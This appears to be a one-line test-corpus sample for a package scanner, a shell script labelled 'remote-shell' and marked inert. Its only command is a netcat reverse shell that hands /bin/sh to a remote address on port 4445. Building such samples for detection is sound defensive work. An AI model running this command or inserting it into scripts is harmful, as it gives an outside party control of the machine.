#!/bin/sh
# pkgguard corpus 099 (remote-shell), modelled on [taxonomy]; inert, never run.
nc -e /bin/sh 100.64.90.12 4445
